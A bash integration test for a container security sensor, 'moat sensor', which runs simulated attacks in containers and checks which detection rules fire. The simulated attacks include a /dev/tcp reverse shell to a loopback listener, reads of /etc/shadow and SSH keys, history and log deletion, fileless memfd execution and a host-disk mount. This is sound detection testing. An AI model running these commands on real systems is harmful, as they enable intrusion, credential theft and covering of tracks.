#!/usr/bin/env bash
# Attack tests of `moat sensor` with its built-in rules (docs/sensor.md "Built-in rules"): as
# root, on a private dockerd (tests/lib/dockerd.sh), each attack runs in a container of its own
# (the image: a debootstrap bookworm with python3, curl, netcat, gcc, plus a few planted files)
# while the sensor runs, and the set of rules the container raised must be exactly the expected
# set, each alert with the container's id and image, the seed alert type and MITRE tactics. A
# benign container (a loop of ordinary commands, a web server under load, a gcc compile, a
# logrotate-like rename and compress) must raise nothing. The in-use file must list the
# container's executables and libraries, and /metrics must answer. Where BPF cannot load the
# test says why and exits 77 (ctest: skipped).
# Usage: tests/sensor_attacks_test.sh PATH/TO/moat   Env: MOAT_TEST_KEEP=1 keeps the work dir.
set -uo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
for lib in common rootfs dockerd sensor; do
  # shellcheck source=/dev/null
  source "$HERE/lib/$lib.sh"
done
[ $# -eq 1 ] || { echo "usage: $0 PATH/TO/moat" >&2; exit 2; }

passed=0 failed=0
failures=()
pass() { passed=$((passed + 1)); echo "PASS $1${2:+: $2}"; }
fail() { failed=$((failed + 1)); failures+=("$1"); echo "FAIL $1${2:+: $2}"; }
finish() {
  echo
  [ ${#failures[@]} -eq 0 ] || { echo "failed checks:"; printf '  %s\n' "${failures[@]}"; }
  echo "sensor attacks: $passed passed, $failed failed"
  [ "$failed" -eq 0 ]
}

start_sensor_test sensor-attacks "$1"

# ---- The engine and the image ------------------------------------------------------------------
ROOTFS_TAR=$(bookworm_rootfs_tar sensor "python3,curl,netcat-openbsd,gcc,libc6-dev,procps") ||
  { fail setup "debootstrap of bookworm (+python3, curl, netcat, gcc) failed"; finish; exit 1; }
ENGINE=$WORK/engine
mkdir -p "$ENGINE"
start_private_dockerd "$ENGINE" || { fail setup "private dockerd did not start"; finish; exit 1; }
docker import --change 'CMD ["sleep", "infinity"]' "$ROOTFS_TAR" moat-sensor/attack-base:1 \
  >/dev/null || { fail setup "docker import failed"; finish; exit 1; }
# Files the attacks use, planted in a layer of the image (so that running them is not drift): a
# "miner" (python3 under xmrig's name), an SSH key, a shell history and an application log.
docker run --name moat-prep moat-sensor/attack-base:1 sh -c '
  cp /usr/bin/python3 /usr/local/bin/xmrig &&
  mkdir -p /root/.ssh && echo "-----BEGIN OPENSSH PRIVATE KEY----- test" >/root/.ssh/id_rsa &&
  chmod 600 /root/.ssh/id_rsa && echo "ls" >/root/.bash_history &&
  echo "started" >/var/log/app.log &&
  printf "#include <stdio.h>\nint main(void) { puts(\"hi\"); return 0; }\n" >/root/hello.c' &&
  docker commit moat-prep moat-sensor/attack:1 >/dev/null && docker rm moat-prep >/dev/null ||
  { fail setup "preparing the attack image failed"; finish; exit 1; }
IMAGE=moat-sensor/attack:1
echo "token-of-the-test-service-account" >"$WORK/token"

# The image's inventory in a private layer cache, as `moat image` writes it: the sensor compares
# each exec in the image's containers with the executables listed there (drift).
IMAGE_CACHE=$WORK/image-cache
if "$MOAT" image --scanners none --cache-dir "$IMAGE_CACHE" -f json -o "$WORK/scan.json" "$IMAGE" \
  2>"$WORK/scan.err"; then
  pass image_inventory "$(python3 - "$IMAGE_CACHE" <<'PY'
import json, os, sys
total = entries = paths = listed = plain = 0
for root, _, files in os.walk(sys.argv[1]):
    for name in files:
        text = open(os.path.join(root, name), "rb").read()
        total += len(text)
        doc = json.loads(text)
        if "executables" not in doc:
            continue
        entries += 1
        coded = doc["executables"]
        listed += len(json.dumps(coded, separators=(",", ":")))
        previous, expanded = "", []
        for entry in coded:
            shared, _, suffix = entry.partition(":")
            previous = previous[: int(shared)] + suffix
            expanded.append(previous)
        paths += len(expanded)
        plain += len(json.dumps(expanded, separators=(",", ":")))
print(f"{entries} layers, {paths} executables; cache {total} bytes, of which the front-coded "
      f"lists {listed} ({100 * listed / total:.1f}%; a plain list would be {plain})")
PY
)"
else
  fail image_inventory "moat image --cache-dir failed: $(tail -c 300 "$WORK/scan.err")"
fi
# A copy of an image binary, renamed, in a directory bound into a container (not the image's),
# and a script there run by the image's shell (the kernel runs, and the sensor compares, the
# shell).
BIND=$WORK/bind
mkdir -p "$BIND"
docker create --name moat-copy "$IMAGE" >/dev/null && docker cp moat-copy:/usr/bin/true "$BIND/tool" &&
  docker rm moat-copy >/dev/null || { fail setup "copying /usr/bin/true out of the image failed"; }
printf '#!/bin/sh\necho from a volume >/dev/null\ntrue\n' >"$BIND/run.sh"
chmod 755 "$BIND/tool" "$BIND/run.sh"

# ---- The sensor --------------------------------------------------------------------------------
ALERTS=$WORK/alerts.jsonl
METRICS_PORT=$(free_port)
cat >"$WORK/sensor.yaml" <<YAML
ringBufferMiB: 16
statsInterval: 5
dockerSocket: $ENGINE/docker.sock
YAML
"$MOAT" sensor --config "$WORK/sensor.yaml" -o "$ALERTS" --metrics-listen "127.0.0.1:$METRICS_PORT" \
  --in-use "$WORK/in-use.json" --in-use-interval 2 --image-cache "$IMAGE_CACHE" \
  2>"$WORK/sensor.err" &
SENSOR_PID=$!
push_cleanup "stop_pid $SENSOR_PID 10"
if ! wait_until 60 grep -q "sensor: attached" "$WORK/sensor.err"; then
  cat "$WORK/sensor.err"
  fail setup "moat sensor did not attach"
  finish
  exit 1
fi
pass attach "$(grep -m1 'rules enabled' "$WORK/sensor.err")"

# ---- Package installs at image build time ------------------------------------------------------
# A local .deb (made here with dpkg-deb: no network) installed by dpkg in a RUN step of a docker
# build (the legacy builder: each step is a container of the engine) raises nothing. Built first,
# while no attack has run, so that any alert written meanwhile is the build's.
DEB_ROOT=$WORK/deb/moat-benign-tool
mkdir -p "$DEB_ROOT/DEBIAN" "$DEB_ROOT/usr/bin" "$WORK/build"
printf 'Package: moat-benign-tool\nVersion: 1.0\nArchitecture: all\nMaintainer: Moat <moat@example.com>\nDescription: a package installed at image build time\n' \
  >"$DEB_ROOT/DEBIAN/control"
printf '#!/bin/sh\nset -e\nid -u >/dev/null; uname -m >/dev/null\n' >"$DEB_ROOT/DEBIAN/postinst"
printf '#!/bin/sh\necho benign\n' >"$DEB_ROOT/usr/bin/moat-benign-tool"
chmod 755 "$DEB_ROOT/DEBIAN/postinst" "$DEB_ROOT/usr/bin/moat-benign-tool"
dpkg-deb --root-owner-group --build "$DEB_ROOT" "$WORK/build/tool.deb" >/dev/null &&
  printf 'FROM %s\nCOPY tool.deb /tmp/tool.deb\nRUN dpkg -i /tmp/tool.deb && rm /tmp/tool.deb\n' \
    moat-sensor/attack:1 >"$WORK/build/Dockerfile" &&
  DOCKER_BUILDKIT=0 docker build -q -t moat-sensor/built:1 "$WORK/build" >"$WORK/build.out" 2>&1 &&
  docker run --rm moat-sensor/built:1 moat-benign-tool >>"$WORK/build.out" 2>&1
build_rc=$?
sleep 2
if [ "$build_rc" != 0 ]; then
  fail image_build_install "docker build with dpkg -i failed: $(tail -c 300 "$WORK/build.out")"
elif [ -s "$ALERTS" ]; then
  fail image_build_install "alerts during the build: $(cut -c1-300 "$ALERTS" | head -n 3)"
else
  pass image_build_install "dpkg -i of a local .deb in a RUN step: no alert"
fi

# ---- The attacks -------------------------------------------------------------------------------
# attack NAME "EXPECTED RULES|..." SCRIPT [docker run flags...]: runs SCRIPT with bash in a new
# container NAME of the image and records what it expects.
declare -A EXPECTED CIDS
attack() {
  local name=$1 expected=$2 script=$3 cid
  shift 3
  if ! cid=$(docker run -d --name "moat-atk-$name" "$@" "$IMAGE" sleep infinity 2>"$WORK/$name.err"); then
    # A private engine in its own namespaces cannot always give a container the host's devices
    # (--privileged); that case is reported, not failed.
    if [ "$name" = privileged ]; then
      echo "SKIP $name: the private engine refused --privileged: $(tail -c 300 "$WORK/$name.err")"
    else
      fail "$name" "docker run failed: $(tail -c 300 "$WORK/$name.err")"
    fi
    return
  fi
  CIDS[$name]=$cid
  EXPECTED[$name]=$expected
  timeout 120 docker exec "moat-atk-$name" bash -c "$script" >"$WORK/$name.out" 2>&1 || true
}

# A loopback listener for the connections below: accepts one client, sends it commands, prints
# what comes back.
LISTENER='import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(1); s.settimeout(30)
open("/tmp/ready", "w").close()
c, _ = s.accept(); c.settimeout(5); c.sendall(b"id\nexit\n")
try:
    print(c.recv(4096))
except OSError:
    pass'

attack reverse_shell "Moat Reverse Shell" "
  python3 -c '$LISTENER' 4711 & for i in \$(seq 50); do [ -e /tmp/ready ] && break; sleep 0.1; done
  bash -c 'exec 3<>/dev/tcp/127.0.0.1/4711; sh <&3 >&3 2>&3'; wait"
attack drift "Moat Drift Executable Not From Image" \
  "cp /usr/bin/true /usr/local/bin/dropped && chmod +x /usr/local/bin/dropped && /usr/local/bin/dropped"
# Drift the writable layer does not show: a renamed copy of /usr/bin/true on a bind mount, run
# (absent from the image's inventory in the cache).
attack bind_mount_drift "Moat Drift Executable Not From Image" "/data/tool" -v "$BIND:/data:ro"
attack credentials "Moat Password File Read|Moat SSH Key Access" \
  "cat /etc/shadow >/dev/null; cat /root/.ssh/id_rsa >/dev/null"
attack history_and_logs "Moat Shell History Cleared|Moat System Log Removed" \
  "rm -f /root/.bash_history; rm -f /var/log/app.log"
attack useradd "Moat User Added" "useradd -m eve"
attack miner "Moat Miner Executed|Moat Miner Pool Connection" "
  python3 -c '$LISTENER' 3333 & for i in \$(seq 50); do [ -e /tmp/ready ] && break; sleep 0.1; done
  xmrig -c 'import socket; socket.create_connection((\"127.0.0.1\", 3333)).recv(100)'; wait"
attack unshare "Moat Namespace Created In Container" "unshare --uts true" \
  --cap-add SYS_ADMIN --security-opt seccomp=unconfined
attack ptrace "Moat Ptrace Attach In Container" "python3 -c '
import ctypes, subprocess
child = subprocess.Popen([\"sleep\", \"5\"])
libc = ctypes.CDLL(None, use_errno=True)
print(\"attach\", libc.ptrace(16, child.pid, None, None), ctypes.get_errno())
child.kill()'"
attack privileged "Moat Privileged Container Started|Moat Command In Privileged Container" "id" \
  --privileged
attack package_manager "Moat Package Manager Run In Container" "timeout 30 apt-get update"
attack netcat_listener "Moat Netcat Listener" "timeout 1 nc -l 9001"
attack token "Moat Service Account Token Read" \
  "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null" \
  -v "$WORK/token:/var/run/secrets/kubernetes.io/serviceaccount/token:ro"
attack fileless "Moat Fileless Execution" "python3 -c '
import os
fd = os.memfd_create(\"payload\")
os.write(fd, open(\"/usr/bin/true\", \"rb\").read())
os.execv(\"/proc/self/fd/%d\" % fd, [\"payload\"])'"
attack eicar "Moat EICAR Test Program|Moat Drift Executable Not From Image|Moat Executable In Temporary Directory" \
  "cp /usr/bin/echo /tmp/asc_alerttest_662jfi039n && /tmp/asc_alerttest_662jfi039n testing eicar pipe"
# Seven different reconnaissance commands in a row: one burst alert (at the fifth; the count then
# starts over and two more are not a burst).
attack recon "Moat Reconnaissance Burst" \
  "id; whoami; uname -a; hostname; ps aux; df -h; getent passwd root"
# Mounting the node's own disk from a container given CAP_SYS_ADMIN and the device (in the
# container's mount namespace: the same filesystem the node has mounted, nothing written,
# unmounted at once; not -o ro, which the kernel refuses while the node has it read-write). Where
# the engine cannot give a container the device (here opening it fails with EPERM, as
# --privileged fails), the case is skipped: the rule is held to recorded mount events in
# node_rules_test.cpp, and a failed mount(2) is not an event.
# Docker's AppArmor profile (where the kernel has AppArmor) refuses mount(2) even with the
# capability.
ROOT_DEVICE=$(findmnt -no SOURCE / 2>/dev/null)
unconfined=(--security-opt seccomp=unconfined)
[ -d /sys/module/apparmor ] && unconfined+=(--security-opt apparmor=unconfined)
if [ -b "$ROOT_DEVICE" ]; then
  attack host_mount "Moat Host Disk Mounted In Container" \
    "mkdir -p /mnt/host && mount $ROOT_DEVICE /mnt/host && ls /mnt/host/etc/hostname; umount /mnt/host" \
    --cap-add SYS_ADMIN "${unconfined[@]}" --device "$ROOT_DEVICE"
  if [ -n "${CIDS[host_mount]:-}" ] && ! grep -q "^/mnt/host/etc/hostname" "$WORK/host_mount.out"; then
    echo "SKIP host_mount: the engine gave the container no usable $ROOT_DEVICE: $(head -c 200 "$WORK/host_mount.out" | tr '\n' ' ')"
    EXPECTED[host_mount]=""  # the mount failed: nothing to raise
  fi
else
  echo "SKIP host_mount: the root filesystem is not on a block device here (${ROOT_DEVICE:-unknown})"
fi
# The node's / bound into a container (read-only): raised when its first program runs.
attack host_bind "Moat Sensitive Host Path Mounted In Container" "ls /host/etc/hostname" \
  -v /:/host:ro
# In use: a library loaded with dlopen seconds after the program started (after the sensor's
# /proc/PID/maps sample) is in the container's libraries through the kernel's mmap events.
attack dlopen "" "python3 -c 'import ctypes, time; time.sleep(3); ctypes.CDLL(\"libsqlite3.so.0\"); time.sleep(1)'"

# The benign set: what a container does every day raises nothing.
# A script on a volume run by the image's shell, both ways; the image's programs; docker-init
# (docker run --init), which the engine mounts into the container.
attack volume_script "" "sh /data/run.sh; /data/run.sh; /usr/bin/true; /bin/true" \
  -v "$BIND:/data:ro" --init
attack benign "" '
  for i in $(seq 30); do
    ls / >/dev/null; cat /etc/hostname >/dev/null; date >/dev/null; ps aux >/dev/null
    grep root /etc/passwd >/dev/null; sed -n 1p /etc/os-release >/dev/null; id >/dev/null
    echo "line $i" >>/tmp/work.log; sort /tmp/work.log | uniq >/tmp/work.sorted
  done
  python3 -m http.server 8000 --bind 127.0.0.1 --directory /usr/share/doc >/dev/null 2>&1 &
  for i in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:8000/ && break; sleep 0.1; done
  for i in $(seq 300); do curl -s -o /dev/null http://127.0.0.1:8000/; done
  kill %1
  gcc -O2 -o /root/hello /root/hello.c
  python3 -c "
import sqlite3
db = sqlite3.connect(\"/var/lib/app.db\")
db.execute(\"create table if not exists orders (id integer primary key, item text, qty integer)\")
db.executemany(\"insert into orders (item, qty) values (?, ?)\", [(\"item%d\" % i, i) for i in range(2000)])
db.commit()
assert db.execute(\"select count(*), sum(qty) from orders where qty > 10\").fetchone()[0] > 0
db.execute(\"vacuum\")
db.close()"
  mv /var/log/app.log /var/log/app.log.1 && touch /var/log/app.log && gzip /var/log/app.log.1'

# ---- Checks ------------------------------------------------------------------------------------
# The alerts are written as they come; give the last ones a moment, then stop the sensor.
sleep 3
curl -sf "http://127.0.0.1:$METRICS_PORT/metrics" >"$WORK/metrics.txt" &&
  grep -q '^moat_sensor_rules_enabled [1-9]' "$WORK/metrics.txt" &&
  grep -q '^moat_sensor_kernel_drops_total 0$' "$WORK/metrics.txt" &&
  curl -sf "http://127.0.0.1:$METRICS_PORT/healthz" >/dev/null &&
  pass metrics "$(grep -E '^moat_sensor_(rule_alerts_total|kernel_events_total|events_per_second) ' "$WORK/metrics.txt" | tr '\n' ' ')" ||
  fail metrics "/metrics or /healthz did not answer as expected"
kill -TERM "$SENSOR_PID"
wait "$SENSOR_PID"
rc=$?
[ "$rc" = 0 ] && pass sigterm "exit 0" || fail sigterm "exit $rc"

for name in "${!EXPECTED[@]}"; do
  result=$(python3 - "$ALERTS" "${CIDS[$name]}" "$IMAGE" "${EXPECTED[$name]}" <<'PY'
import json, sys
path, cid, image, expected = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
expected = set(filter(None, expected.split("|")))
rules, problems = set(), []
for line in open(path, errors="replace"):
    a = json.loads(line)
    c = a.get("container", {})
    if c.get("id") != cid[:12]:
        continue
    rules.add(a["rule"])
    if c.get("image") != image or not c.get("name"):
        problems.append(f"{a['rule']}: container {c}")
    if not any(t.startswith(("K8S.NODE_", "VM_")) for t in a["tags"]):
        problems.append(f"{a['rule']}: no seed alert type in {a['tags']}")
    if not a.get("mitre") or not all(m.get("tactic") for m in a["mitre"]):
        problems.append(f"{a['rule']}: mitre {a.get('mitre')}")
    if not a.get("proc", {}).get("pid") or "cmdline" not in a["proc"]:
        problems.append(f"{a['rule']}: proc {a.get('proc')}")
if rules != expected:
    problems.append(f"raised {sorted(rules)}, expected {sorted(expected)}")
print("; ".join(problems) if problems else ", ".join(sorted(rules)) or "no alerts")
sys.exit(1 if problems else 0)
PY
  ) && pass "attack_$name" "$result" || fail "attack_$name" "$result (output: $(head -c 300 "$WORK/$name.out"))"
done

# The bind-mount drift alert names the program as the container saw it and says how it was seen
# (not on the writable layer, not in the image's inventory); the sensor read the inventory.
python3 - "$ALERTS" "${CIDS[bind_mount_drift]:-none}" <<'PY' && pass bind_mount_drift_output || fail bind_mount_drift_output "see above"
import json, sys
alerts = [json.loads(l) for l in open(sys.argv[1], errors="replace")]
mine = [a for a in alerts if a.get("container", {}).get("id") == sys.argv[2][:12]]
drift = [a for a in mine if a["rule"] == "Moat Drift Executable Not From Image"]
assert len(drift) == 1, [a["output"] for a in mine]
out = drift[0]["output"]
assert "exe=/data/tool " in out and "upper_layer=false in_image=false" in out, out
assert "T1525" in json.dumps(drift[0]["mitre"]) and "K8S.NODE_LinuxBackdoorArtifact" in drift[0]["tags"]
print(out)
PY
grep -q "executables from the layer cache in [0-9]* ms (drift against the image inventory on)" "$WORK/sensor.err" &&
  pass inventory_loaded "$(grep -m1 'executables from the layer cache' "$WORK/sensor.err")" ||
  fail inventory_loaded "the sensor did not log the image's inventory: $(grep -m3 'image' "$WORK/sensor.err")"

# In use: the drift container ran /usr/local/bin/dropped and cp; the benign one gcc, and its
# long-lived processes mapped libc; the dlopen container's python3 loaded libsqlite3 late; the
# script container ran docker-init and dash.
python3 - "$WORK/in-use.json" "${CIDS[benign]}" "${CIDS[dlopen]:-}" "${CIDS[volume_script]:-}" <<'PY' && pass in_use || fail in_use "see above"
import json, sys
doc = json.load(open(sys.argv[1]))
assert doc["format"] == "moat-in-use/1", doc.get("format")
by_id = {c["id"]: c for c in doc["containers"]}
c = by_id.get(sys.argv[2])
assert c, f"benign container missing among {list(by_id)}"
assert any(e.endswith("gcc-12") for e in c["executables"]), c["executables"]  # gcc -> gcc-12
assert "/usr/bin/curl" in c["executables"], c["executables"]
assert any("libc.so" in lib for lib in c["libraries"]), c["libraries"][:20]
assert c["image"] == "moat-sensor/attack:1", c["image"]
print("benign:", len(c["executables"]), "executables,", len(c["libraries"]), "libraries")
d = by_id.get(sys.argv[3])
assert d, f"dlopen container missing among {list(by_id)}"
late = [lib for lib in d["libraries"] if "/libsqlite3.so" in lib]
assert late, f"libsqlite3 (dlopen) not among {d['libraries']}"
print("dlopen:", late)
# The script container's silence is the drift rule's doing, not an unseen exec: its docker-init
# (mounted in by the engine) and the shell that ran the script from the volume were seen.
v = by_id.get(sys.argv[4])
assert v, f"volume_script container missing among {list(by_id)}"
assert any(e.endswith("/docker-init") for e in v["executables"]), v["executables"]
assert "/usr/bin/dash" in v["executables"], v["executables"]
print("volume_script:", v["executables"])
PY
last=$(grep "sensor at exit" "$WORK/sensor.err" | tail -n 1)
[[ "$last" == *"drops 0,"* ]] && pass no_drops "$last" || fail no_drops "${last:-no counters line}"
finish
